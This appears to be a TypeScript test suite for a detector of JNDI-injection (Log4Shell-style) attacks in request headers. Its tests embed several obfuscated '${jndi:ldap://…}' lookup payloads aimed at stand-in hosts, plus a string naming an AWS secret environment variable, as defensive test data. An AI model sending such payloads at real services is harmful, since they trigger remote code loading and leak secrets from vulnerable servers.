import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import type { Detection } from '../../detector.js';
import type { FieldKind, FieldSource, InputField } from '../../field.js';
import type { Paranoia } from '../../rule.js';
import { jndiDetector } from './index.js';
import { runDetector } from '../run-detector.js';

interface VectorField { kind?: FieldKind; source?: FieldSource; name?: string; isName?: boolean }
interface Vectors {
  defaultField: VectorField;
  attacks: { text: string; rules: string[]; field?: VectorField; paranoia?: Paranoia; note?: string }[];
  benign: { text: string; field?: VectorField; paranoia2?: string[]; note?: string }[];
}

const vectors = JSON.parse(readFileSync(new URL('./jndi.vectors.json', import.meta.url), 'utf8')) as Vectors;

function fieldOf(overrides: VectorField = {}, value = ''): InputField {
  const merged = { ...vectors.defaultField, ...overrides };
  const name = merged.name ?? 'user-agent';
  return { kind: merged.kind ?? 'header', source: merged.source ?? 'header', location: `test.${name}`, name, isName: merged.isName ?? false, value };
}

function detect(text: string, field: InputField, paranoia: Paranoia): Detection[] {
  const found: Detection[] = [];
  runDetector(jndiDetector, text, field, paranoia, found);
  return found;
}

const ruleIds = (found: readonly Detection[]): string[] => found.map((detection) => detection.rule.id).sort();

test('attack vectors: each yields exactly its rules at its paranoia level', () => {
  assert.ok(vectors.attacks.length >= 25);
  const failures = vectors.attacks
    .map((vector) => ({ text: vector.text, expected: [...vector.rules].sort(), got: ruleIds(detect(vector.text, fieldOf(vector.field, vector.text), vector.paranoia ?? 1)) }))
    .filter((result) => JSON.stringify(result.expected) !== JSON.stringify(result.got));
  assert.deepEqual(failures, []);
});

test('benign vectors: silent at paranoia 1, and only the listed rules at paranoia 2', () => {
  assert.ok(vectors.benign.length >= 20);
  const failures = vectors.benign.flatMap((vector) => {
    const field = fieldOf(vector.field, vector.text);
    const atOne = ruleIds(detect(vector.text, field, 1));
    const atTwo = ruleIds(detect(vector.text, field, 2));
    const problems = atOne.length > 0 ? [{ text: vector.text, paranoia: 1, got: atOne }] : [];
    if (vector.paranoia2 !== undefined && JSON.stringify(atTwo) !== JSON.stringify([...vector.paranoia2].sort())) {
      problems.push({ text: vector.text, paranoia: 2, got: atTwo });
    }
    return problems;
  });
  assert.deepEqual(failures, []);
});

test('fragments show the lookup as written; unclosed ones show the resolved text', () => {
  const found = detect('UA ${${lower:j}ndi:ldap://x.example.com/a} end', fieldOf(), 1);
  assert.deepEqual(found.map((detection) => [detection.rule.id, detection.fragment]), [
    ['jndi.obfuscated-lookup', '${${lower:j}ndi:ldap://x.example.com/a}'],
    ['jndi.spelling-lookup', '${lower:j}'],
  ]);
  assert.equal(detect('${${::-j}ndi:ldap://x', fieldOf(), 1)[0]?.fragment, '${jndi:ldap://x');
});

test('nesting deeper than the evaluator follows stays text, and a plain jndi lookup is still found', () => {
  const deep = `${'${'.repeat(40)}jndi:ldap://x/a${'}'.repeat(40)}`;
  assert.deepEqual(ruleIds(detect(deep, fieldOf(), 1)), ['jndi.lookup']);
});

test('adversarial inputs complete', () => {
  const inputs = ['${'.repeat(50_000), '\r\n'.repeat(50_000), '('.repeat(50_000), '0x'.repeat(50_000), '${'.repeat(25_000) + '}'.repeat(25_000),
    '${a:-'.repeat(30_000), '${::-j}'.repeat(20_000), `${'${lower:'.repeat(20_000)}j`, '$'.repeat(50_000), '${jndi'.repeat(20_000),
    `${'${::-'.repeat(12)}${'$${'.repeat(30_000)}`, '$${'.repeat(30_000)];
  for (const input of inputs) assert.ok(Array.isArray(detect(input, fieldOf(), 4)));
  assert.deepEqual(ruleIds(detect('${::-j}'.repeat(20_000), fieldOf(), 4)), ['jndi.spelling-lookup']);
});

test('triggers: `$` is necessary for every rule, and the gate lets every attack vector through', () => {
  for (const vector of vectors.attacks) assert.ok(vector.text.includes('$'), vector.text);
  assert.deepEqual(ruleIds(detect('jndi:ldap://x/ {env:AWS_SECRET_ACCESS_KEY}', fieldOf(), 4)), []);
});

test('rules: unique ids under jndi., attack class jndi', () => {
  const ids = jndiDetector.rules.map((rule) => rule.id);
  assert.equal(new Set(ids).size, ids.length);
  for (const rule of jndiDetector.rules) {
    assert.match(rule.id, /^jndi\.[a-z]+(-[a-z]+)*$/);
    assert.equal(rule.attackClass, 'jndi');
  }
});
